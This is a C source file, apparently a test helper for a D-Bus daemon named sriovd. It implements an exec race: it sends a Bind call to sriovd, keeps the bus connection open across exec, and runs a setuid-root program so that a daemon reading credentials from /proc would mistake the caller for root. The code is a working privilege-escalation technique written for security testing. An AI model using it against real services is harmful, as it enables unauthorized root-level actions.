/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* bus-exec-race DEVICE DRIVER PROGRAM [ARGS...]: the attack on credentials
 * read from /proc: send Bind(DEVICE, DRIVER) to sriovd on the system bus
 * without waiting for the answer, keep the connection open across exec,
 * and exec PROGRAM at once — a setuid-root program, whose process /proc
 * then shows with euid 0 while sriovd decides. A daemon that trusted
 * /proc (SD_BUS_CREDS_AUGMENT) would take the call for root's; sriovd must
 * use only what the bus vouches for: the connection's peer credentials. */

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

static int send_bind(sd_bus *bus, const char *device, const char *driver) {
        sd_bus_message *m = NULL;
        int r;

        r = sd_bus_message_new_method_call(bus, &m, "org.sriovd.Manager1", "/org/sriovd/Manager1",
                                           "org.sriovd.Manager1", "Bind");
        if (r < 0)
                return r;
        r = sd_bus_message_append(m, "ssa{sv}", device, driver, 0);
        if (r < 0)
                return r;
        r = sd_bus_send(bus, m, NULL);
        if (r < 0)
                return r;
        return sd_bus_flush(bus);
}

int main(int argc, char *argv[]) {
        sd_bus *bus = NULL;
        int fd, r;

        if (argc < 4) {
                fputs("usage: bus-exec-race DEVICE DRIVER PROGRAM [ARGS...]\n", stderr);
                return 2;
        }
        r = sd_bus_open_system(&bus);
        if (r < 0) {
                fprintf(stderr, "bus-exec-race: cannot connect: %s\n", strerror(-r));
                return 1;
        }
        r = send_bind(bus, argv[1], argv[2]);
        if (r < 0) {
                fprintf(stderr, "bus-exec-race: cannot send the call: %s\n", strerror(-r));
                return 1;
        }
        /* the connection outlives the exec: the bus keeps its sender */
        fd = sd_bus_get_fd(bus);
        if (fd < 0 || fcntl(fd, F_SETFD, 0) < 0) {
                perror("bus-exec-race: the connection's fd");
                return 1;
        }
        printf("sent\n");
        fflush(stdout);
        execv(argv[3], argv + 3);
        perror("bus-exec-race: exec");
        return 1;
}
